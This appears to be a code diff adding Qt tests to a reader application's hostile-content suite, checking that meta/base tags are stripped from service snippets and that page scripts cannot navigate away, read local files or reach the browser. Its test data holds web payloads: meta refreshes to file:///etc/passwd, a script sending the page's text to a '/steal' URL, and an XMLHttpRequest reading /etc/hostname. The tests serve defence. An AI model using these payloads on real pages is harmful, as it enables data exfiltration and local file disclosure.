@@ -6,6 +6,7 @@
 #include "reader/ReadingController.h"
 #include "reader/ReadingPage.h"
 #include "reader/ReadingView.h"
+#include "web/WebGuard.h"
 
 #include <QSignalSpy>
 #include <QtTest>
@@ -19,6 +20,11 @@ private Q_SLOTS:
 
     void serviceHtmlRunsNoScript_data();
     void serviceHtmlRunsNoScript();
+    void snippetLosesMetaAndBase_data();
+    void snippetLosesMetaAndBase();
+    void pageStaysOnReaderHtml_data();
+    void pageStaysOnReaderHtml();
+    void userClickOnLinkOpensBrowser();
     void longChapterShownInParts();
     void bookmarkFindsItsPart();
 
@@ -122,6 +128,112 @@ void TestReadingHostile::serviceHtmlRunsNoScript()
     view()->setFocus();
     QTest::keyClick(view()->focusProxy(), Qt::Key_Right);
     QTRY_COMPARE_WITH_TIMEOUT(controller().selectedRow(), 2, 5000);
+}
+
+void TestReadingHostile::snippetLosesMetaAndBase_data()
+{
+    QTest::addColumn<QString>("html");
+    QTest::addColumn<QString>("kept");
+    QTest::newRow("refresh tag")
+        << QStringLiteral("<b>广告</b><meta http-equiv=\"refresh\" content=\"0;url=file:///etc/passwd\">尾")
+        << QStringLiteral("<b>广告</b>尾");
+    QTest::newRow("capitals, self-closed, no blank")
+        << QStringLiteral("a<META/HTTP-EQUIV=Refresh CONTENT=0>b<Base\nhref=file:///etc/>c") << QStringLiteral("abc");
+    QTest::newRow("quoted '>' inside the tag")
+        << QStringLiteral("x<meta content = '1>2' http-equiv=refresh>y") << QStringLiteral("xy");
+    QTest::newRow("a '<' left to join what follows")
+        << QStringLiteral("<<meta>meta http-equiv=refresh content=0>z") << QStringLiteral("z");
+    QTest::newRow("tag left open runs to the end")
+        << QStringLiteral("ok<base href=\"http://127.0.0.1:1/") << QStringLiteral("ok");
+    QTest::newRow("lookalikes stay") << QStringLiteral("<metadata>1</metadata><basefont>< meta>&lt;meta&gt;")
+                                     << QStringLiteral("<metadata>1</metadata><basefont>< meta>&lt;meta&gt;");
+    QTest::newRow("end tags go too") << QStringLiteral("<p>a</p></meta></base>")
+                                     << QStringLiteral("<p>a</p></meta></base>");
+}
+
+void TestReadingHostile::snippetLosesMetaAndBase()
+{
+    QFETCH(QString, html);
+    QFETCH(QString, kept);
+    QCOMPARE(withoutMetaAndBase(html), kept);
+}
+
+void TestReadingHostile::pageStaysOnReaderHtml_data()
+{
+    QTest::addColumn<QString>("banner");
+    QTest::addColumn<QString>("header");
+    QTest::addColumn<QString>("script"); // run by the page once the chapter shows
+    const QString link = QStringLiteral("<a id=\"l\" href=\"http://127.0.0.1:1/steal?d=1\">更多</a>");
+    QTest::newRow("banner refresh to a local file")
+        << QStringLiteral("<meta http-equiv=\"refresh\" content=\"0;url=file:///etc/passwd\">") << QString()
+        << QString();
+    QTest::newRow("header refresh to the service")
+        << QString() << QStringLiteral("<META HTTP-EQUIV=Refresh CONTENT=\"0;URL=http://127.0.0.1:1/x\">") << QString();
+    QTest::newRow("script to a local file")
+        << QString() << QString() << QStringLiteral("location.href='file:///etc/hostname'");
+    QTest::newRow("script to the service with the page's text")
+        << QString() << QString()
+        << QStringLiteral("location.href='http://127.0.0.1:1/steal?d='+encodeURIComponent(document.body.innerText)");
+    QTest::newRow("script clicks a banner link")
+        << link << QString() << QStringLiteral("document.getElementById('l').click()");
+    QTest::newRow("banner image of a local file")
+        << QStringLiteral("<img id=\"f\" src=\"file:///usr/share/gitweb/static/git-logo.png\">") << QString()
+        << QString();
+}
+
+// Nothing in the service's snippets or a script in the page moves the reading page, reads a
+// local file into it or reaches the desktop's browser.
+void TestReadingHostile::pageStaysOnReaderHtml()
+{
+    QFETCH(QString, banner);
+    QFETCH(QString, header);
+    QFETCH(QString, script);
+    const QUrl readerHtml = view()->url();
+    m_fx->state.bannerHtml = banner;
+    m_fx->state.chapterHeaderHtml = header;
+    openBook(m_fx->writeChapters(QStringLiteral("a.txt"), 3));
+    QTRY_VERIFY_WITH_TIMEOUT(runJs(view(), QStringLiteral("window.readerChannelReady === true")).toBool(), 10000);
+    QSignalSpy shown(view(), &ReadingView::chapterDisplayed);
+    controller().setSelectedRow(1);
+    controller().showSelected();
+    QVERIFY(shown.wait(5000));
+    if (!script.isEmpty())
+        runJs(view(), script + QStringLiteral("; true"));
+    QTest::qWait(1500);
+    QCOMPARE(view()->url(), readerHtml);
+    QVERIFY(runJs(view(), QStringLiteral("document.title === '阅读窗口' && "
+                                         "document.getElementById('TXT').textContent.indexOf('内容1甲') >= 0"))
+                .toBool());
+    QCOMPARE(m_fx->desktop.urls, QStringList());
+    QCOMPARE(runJs(view(), QStringLiteral("document.querySelectorAll('meta, base').length")).toInt(), 2);
+    QCOMPARE(
+        runJs(view(), QStringLiteral("(function(){var f=document.getElementById('f');return f?f.naturalWidth:0;})()"))
+            .toInt(),
+        0);
+    // Nor can a script of the page read a local file.
+    QCOMPARE(runJs(view(), QStringLiteral("(function(){try{var x=new XMLHttpRequest();x.open('GET','file:///etc/"
+                                          "hostname',false);x.send();return x.responseText;}catch(e){return '';}})()"))
+                 .toString(),
+             QString());
+}
+
+// A click of the user's own on a banner link is what the desktop's browser opens.
+void TestReadingHostile::userClickOnLinkOpensBrowser()
+{
+    const QUrl readerHtml = view()->url();
+    m_fx->state.bannerHtml = QStringLiteral(
+        "<a id=\"l\" href=\"http://127.0.0.1:1/more\" style=\"display:inline-block;width:300px;height:60px\">更多</a>");
+    openBook(m_fx->writeChapters(QStringLiteral("a.txt"), 3));
+    QTRY_VERIFY_WITH_TIMEOUT(runJs(view(), QStringLiteral("window.readerChannelReady === true")).toBool(), 10000);
+    const QVariantList rect = runJs(view(), QStringLiteral("(function(){var r=document.getElementById('l')."
+                                                           "getBoundingClientRect();return [r.left+r.width/2,r.top+r."
+                                                           "height/2];})()"))
+                                  .toList();
+    QCOMPARE(rect.size(), 2);
+    const QPoint centre(qRound(rect[0].toDouble()), qRound(rect[1].toDouble()));
+    QTest::mouseClick(view()->focusProxy(), Qt::LeftButton, {}, centre);
+    QTRY_COMPARE_WITH_TIMEOUT(m_fx->desktop.urls, QStringList{QStringLiteral("http://127.0.0.1:1/more")}, 5000);
+    QCOMPARE(view()->url(), readerHtml);
 }
 
 // A 4 MB chapter without headings comes up in parts: the first at once, the next on Right.
